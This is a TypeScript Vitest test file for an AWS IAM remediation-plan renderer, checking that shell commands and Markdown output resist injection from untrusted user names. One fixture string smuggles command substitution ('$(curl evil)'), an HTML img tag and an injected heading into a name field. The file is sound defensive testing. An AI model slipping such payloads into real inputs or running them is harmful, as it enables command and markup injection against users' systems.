import { describe, expect, it } from 'vitest';
import { builtInCatalogue, planFindings, renderPlansJson, renderPlansMarkdown } from '../../src/core/remediation/index.js';
import { finding, keyEvidence, result } from './helpers.js';

// Real IAM names only use [A-Za-z0-9+=,.@_-]; these come from a tampered report.
const hostile = 'eve$(curl evil)<img src=x>`\n# heading';

describe('rendering untrusted names', () => {
  const set = planFindings(result([finding('access-key-not-rotated', 'rotate-access-key', 'access_key_1', keyEvidence(120, 2), { name: hostile })]), builtInCatalogue());
  const markdown = renderPlansMarkdown(set);

  it('shell-quotes values in commands, so a copied command cannot run anything else', () => {
    const commands = set.accounts[0]!.plans[0]!.steps.flatMap((s) => s.commands);
    expect(commands).toContain("aws iam create-access-key --user-name 'eve$(curl evil)<img src=x>`\n# heading'");
    expect(commands).toContain('aws iam get-access-key-last-used --access-key-id <ACCESS_KEY_ID_1>');
  });

  it('keeps Markdown free of raw HTML and injected headings', () => {
    // Code blocks and code spans show text verbatim; everywhere else '<' must be escaped.
    const prose = markdown.replace(/```sh[\s\S]*?```/g, '').replace(/`[^`\n]*`/g, '');
    expect(prose).not.toContain('<img');
    expect(prose).toContain('&lt;img');
    expect(markdown).not.toMatch(/^# heading/m);
    expect(markdown).toContain("### IAM user `eve$(curl evil)<img src=x>' # heading`");
  });

  it('shows placeholders in prose instead of letting Markdown swallow them as tags', () => {
    expect(markdown).toContain('wherever a command below says &lt;ACCESS_KEY_ID_1&gt;');
  });

  it('renders JSON that parses back to the plan set', () => {
    expect(JSON.parse(renderPlansJson(set))).toEqual(set);
  });

  it('embeds under a host document with a deeper heading level and no title', () => {
    const embedded = renderPlansMarkdown(set, { headingLevel: 2, omitTitle: true });
    expect(embedded).toMatch(/^### Account 123456789012 \(test\)\n/);
    expect(embedded).not.toContain('Remediation plans');
  });

  it('says when nothing needs a plan', () => {
    expect(renderPlansMarkdown(planFindings(result([]), builtInCatalogue()))).toContain('No open findings need a plan.');
  });
});
